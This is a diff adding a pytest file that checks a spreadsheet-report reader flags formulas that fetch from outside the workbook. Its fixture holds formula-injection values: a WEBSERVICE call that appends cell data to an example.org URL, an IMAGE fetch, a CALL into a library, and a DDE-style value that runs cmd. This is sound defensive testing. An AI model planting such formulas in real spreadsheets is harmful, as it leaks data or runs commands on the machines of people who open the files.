@@ -1,0 +1,40 @@
+"""A formula that fetches from outside is named at its cell; the value stored beside it is read."""
+
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from emenscr_xlsx.reading.fetching import REACHES
+from emenscr_xlsx.reading.report import read_report
+from support.office import Office
+
+FETCHING = {
+    "from the web": 'WEBSERVICE("http://example.org/"&B2)',
+    "a picture": '_xlfn.IMAGE("http://example.org/")',
+    "from a library": 'CALL("a","b")',
+    "from another program": "cmd|'/c x'!A1",
+}
+
+
+def test_a_formula_that_fetches_is_remarked_at_its_cell(
+    office: Office, deck_file: Path, tmp_path: Path
+) -> None:
+    """S14: whoever opens the report's file is told; sums and the like draw no remark."""
+    read = read_report(deck_file, office.ws.key)
+    assert "REACHES_OUT" not in {f.code for f in read.findings}
+    place = read.place("budget")
+    keys = list(read.cells["budget"])[: len(FETCHING)]
+    cells = [place.address(key, "disbursed") for key in keys]
+    book = load_workbook(deck_file)
+    for cell, formula in zip(cells, FETCHING.values(), strict=False):
+        book[place.sheet][cell] = f"={formula}"
+    book.save(tmp_path / "f.xlsx")
+    found = read_report(tmp_path / "f.xlsx", office.ws.key).findings
+    assert [f.cell for f in found if f.code == "REACHES_OUT"] == cells
+    assert cells
+
+
+@pytest.mark.parametrize("formula", ["SUM(1,2)", "IMAGES+1", "CALLED(1)", 'IF(A1="a|b",1,2)'])
+def test_a_formula_that_only_reckons_draws_no_remark(formula: str) -> None:
+    assert not REACHES.search(formula)
